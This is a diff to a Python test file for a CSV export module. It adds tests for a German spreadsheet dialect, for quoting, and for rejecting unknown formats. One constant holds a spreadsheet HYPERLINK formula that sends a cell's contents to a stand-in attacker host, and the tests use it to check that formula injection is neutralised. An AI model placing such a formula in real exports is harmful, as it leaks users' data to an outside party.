@@ -6,12 +6,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from decimal import Decimal
 
 import pytest
 from sqlmodel import select
 
-from core import exports
+from core import exports, i18n
 from core.changes import versions
+from core.errors import ValidationError
 from db.models import AuditLog
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
@@ -82,3 +84,31 @@ def test_an_export_is_audited_with_who_what_format_and_rows(write, read, team):
         assert versions(s)["exports"] == before + 1  # the audit log reads afresh, no domain's data does
     assert (row.actor, row.actor_id, row.action) == ("analyst", team["analyst"].id, "ideas.export")
     assert json.loads(row.after or "{}") == {"what": "ideas", "format": "csv", "rows": 42, "statuses": ["new"]}
+
+
+def test_the_german_dialect_writes_semicolons_a_decimal_comma_and_a_byte_order_mark():
+    rows = [
+        {"title": "Dark mode; at last", "share": 79.9, "count": 26000, "change": -2.5, "done": True},
+        {"title": "-2,5 + 3", "share": Decimal("0.125"), "count": -3, "change": 1e-05, "done": False},
+        {"title": FORMULA, "share": None, "count": 0, "change": 100.0, "done": None},
+    ]
+    columns = ("title", "share", "count", "change", "done")
+    text = exports.to_csv(rows, columns, dialect=exports.Dialect.excel_de)
+    assert text.startswith(exports.BYTE_ORDER_MARK + "title;share;count;change;done\r\n")
+    read_back = list(csv.reader(io.StringIO(text.removeprefix(exports.BYTE_ORDER_MARK), newline=""), delimiter=";"))
+    assert read_back[1:] == [
+        ["Dark mode; at last", "79,9", "26000", "-2,5", "True"],  # the cell with a semicolon is quoted
+        ["'-2,5 + 3", "0,125", "-3", "1e-05", "False"],  # text that starts like a formula stays neutralised
+        ["'" + FORMULA, "", "0", "100,0", ""],
+    ]
+    # The plain dialect is what it always was: commas, decimal points, no byte order mark.
+    plain = exports.to_csv(rows, columns)
+    assert plain.startswith("title,share,count,change,done\r\n")
+    assert "Dark mode; at last,79.9,26000,-2.5,True\r\n" in plain and '"\'-2,5 + 3",0.125,' in plain
+
+
+def test_an_unknown_spreadsheet_format_is_refused_with_the_ones_there_are():
+    with pytest.raises(ValidationError, match="choose one of plain, excel_de"):
+        exports.to_csv([], ("title",), dialect="excel")
+    with i18n.using("de"), pytest.raises(ValidationError, match="Unbekanntes Tabellenformat 'excel'"):
+        exports.dialect_of("excel")
